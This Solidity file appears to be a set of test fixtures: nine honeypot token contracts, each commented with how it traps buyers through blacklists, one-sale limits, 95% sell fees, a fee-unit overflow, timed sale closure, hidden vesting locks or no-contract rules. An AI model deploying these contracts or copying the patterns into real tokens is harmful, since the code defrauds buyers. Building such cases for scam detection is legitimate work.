// SPDX-License-Identifier: MIT
pragma solidity ^0.8.28;

import {Lean, Owned} from "./Lean.sol";

/// Traps in hand-written code: lists, limits, fees and clocks.

/// Whoever buys after the first two blocks is taken for a bot, and bots cannot send.
contract LateBotBuiltTrap is Lean("Pepe Rocket", "PROCK", 18), Owned {
    mapping(address => bool) public bots;
    address public uniswapV2Pair;
    uint256 public launchBlock;

    constructor() {
        _mint(msg.sender, 420_690_000 ether);
    }

    function setUp(address pair) external onlyOwner {
        uniswapV2Pair = pair;
        launchBlock = block.number;
    }

    function delBot(address account) external onlyOwner {
        bots[account] = false;
    }

    function _transfer(address from, address to, uint256 amount) internal override {
        require(!bots[from], "TOKEN: Your account is blacklisted!");
        if (from == uniswapV2Pair && to != owner && block.number > launchBlock + 2) bots[to] = true;
        super._transfer(from, to, amount);
    }
}

/// A quarter of the holding may be sold, once per account.
contract OnceBuiltTrap is Lean("Fair Exit", "FEX", 18), Owned {
    mapping(address => bool) private hasSold;
    address private pair;

    constructor() {
        _mint(msg.sender, 1_000_000 ether);
    }

    function setUp(address pair_) external onlyOwner {
        pair = pair_;
    }

    function _transfer(address from, address to, uint256 amount) internal override {
        if (from != owner && from != pair) {
            require(!hasSold[from], "already sold");
            require(amount <= balanceOf[from] / 4, "anti dump");
            hasSold[from] = true;
        }
        super._transfer(from, to, amount);
    }
}

/// One sale a day, of at most a hundred-billionth of the supply.
contract DustLimitBuiltTrap is Lean("Baby Whale", "BWHALE", 18), Owned {
    uint256 public _maxTxAmount = 100_000_000 ether;
    mapping(address => uint256) private _lastSell;
    mapping(address => bool) private _isExcludedFromLimits;
    address private _pair;

    constructor() {
        _isExcludedFromLimits[msg.sender] = true;
        _mint(msg.sender, 100_000_000 ether);
    }

    function setUp(address pair) external onlyOwner {
        _pair = pair;
        _maxTxAmount = totalSupply / 1e11;
    }

    function _transfer(address from, address to, uint256 amount) internal override {
        if (to == _pair && !_isExcludedFromLimits[from]) {
            require(amount <= _maxTxAmount, "Transfer amount exceeds the maxTxAmount.");
            require(block.timestamp > _lastSell[from] + 1 days, "Cooldown");
            _lastSell[from] = block.timestamp;
        }
        super._transfer(from, to, amount);
    }
}

/// Small sales bear 3 %, larger ones 95 %, and one sale a day is let through.
contract LargeSaleBuiltTrap is Lean("Whale Guard", "WGRD", 9), Owned {
    mapping(address => uint256) private nextSale;
    address private pair;

    constructor() {
        _mint(msg.sender, 1e15 * 1e9);
    }

    function setUp(address pair_) external onlyOwner {
        pair = pair_;
    }

    function _transfer(address from, address to, uint256 amount) internal override {
        if (to == pair && from != owner) {
            require(block.timestamp >= nextSale[from], "wait");
            nextSale[from] = block.timestamp + 24 hours;
            uint256 fee = (amount * (amount > balanceOf[pair] / 100_000 ? 95 : 3)) / 100;
            super._transfer(from, owner, fee);
            amount -= fee;
        }
        super._transfer(from, to, amount);
    }
}

/// The fee is stored in a unit in which it exceeds the amount, so the subtraction fails whenever a holder sends.
contract FeeUnitBuiltTrap is Lean("Moon Yield", "MYLD", 18), Owned {
    uint256 private _taxFee = 4;
    uint256 private _teamFee = 6;
    mapping(address => bool) private _isExcludedFromFee;
    address private _pair;

    constructor() {
        _isExcludedFromFee[msg.sender] = true;
        _isExcludedFromFee[address(this)] = true;
        _mint(msg.sender, 1_000_000_000 ether);
    }

    function setUp(address pair) external onlyOwner {
        _pair = pair;
        setFee(400, 600);
    }

    function setFee(uint256 tax, uint256 team) public onlyOwner {
        _taxFee = tax;
        _teamFee = team;
    }

    function _transfer(address from, address to, uint256 amount) internal override {
        uint256 kept;
        if (from != _pair && !_isExcludedFromFee[from]) {
            kept = (amount * _taxFee) / 100 + (amount * _teamFee) / 100;
            super._transfer(from, address(this), kept);
        }
        super._transfer(from, to, amount - kept);
    }
}

/// Sales were open for the first twenty minutes.
contract ClosedAgainBuiltTrap is Lean("Flash Launch", "FLASH", 18), Owned {
    address private market;
    uint256 private closing;

    constructor() {
        _mint(msg.sender, 1_000_000 ether);
    }

    function setUp(address pair) external onlyOwner {
        market = pair;
        closing = block.timestamp + 20 minutes;
        transferOwnership(address(0));
    }

    function _transfer(address from, address to, uint256 amount) internal override {
        require(to != market || market == address(0) || balanceOf[market] == 0 || block.timestamp < closing, "TRANSFER_FAILED");
        super._transfer(from, to, amount);
    }
}

/// Sales open once ten thousand accounts hold the token.
contract MilestoneBuiltTrap is Lean("Ten Thousand", "TENK", 18), Owned {
    uint256 public holders;
    uint256 public constant MILESTONE = 10_000;
    address private pair;

    constructor() {
        _mint(msg.sender, 1_000_000 ether);
    }

    function setUp(address pair_) external onlyOwner {
        pair = pair_;
    }

    function _transfer(address from, address to, uint256 amount) internal override {
        if (to == pair && from != owner) require(holders >= MILESTONE, "sales open at 10k holders");
        if (balanceOf[to] == 0 && amount > 0) holders++;
        super._transfer(from, to, amount);
        if (balanceOf[from] == 0) holders--;
    }
}

/// "Against contracts": nothing but the deployer's tokens may go to an address with code, and the market is one.
contract NoCodeBuiltTrap is Lean("Humans Only", "HUMAN", 18), Owned {
    constructor() {
        _mint(msg.sender, 1_000_000 ether);
    }

    function setUp(address) external onlyOwner {}

    function _transfer(address from, address to, uint256 amount) internal override {
        require(from == owner || to.code.length == 0, "no contracts");
        super._transfer(from, to, amount);
    }
}

/// Ninety-six parts in a hundred of a purchase are set aside for ten years, though the balance shows them.
contract VestedPurchaseBuiltTrap is Lean("Long Game", "LONG", 18), Owned {
    struct Grant {
        uint256 amount;
        uint256 start;
    }

    mapping(address => Grant) private grants;
    address private pair;

    constructor() {
        _mint(msg.sender, 1_000_000 ether);
    }

    function setUp(address pair_) external onlyOwner {
        pair = pair_;
    }

    function lockedOf(address holder) public view returns (uint256) {
        Grant memory grant = grants[holder];
        uint256 passed = block.timestamp - grant.start;
        return passed >= 3650 days ? 0 : grant.amount - (grant.amount * passed) / 3650 days;
    }

    function _transfer(address from, address to, uint256 amount) internal override {
        require(balanceOf[from] >= amount + lockedOf(from), "vesting");
        super._transfer(from, to, amount);
        if (from == pair) grants[to] = Grant(lockedOf(to) + (amount * 96) / 100, block.timestamp);
    }
}
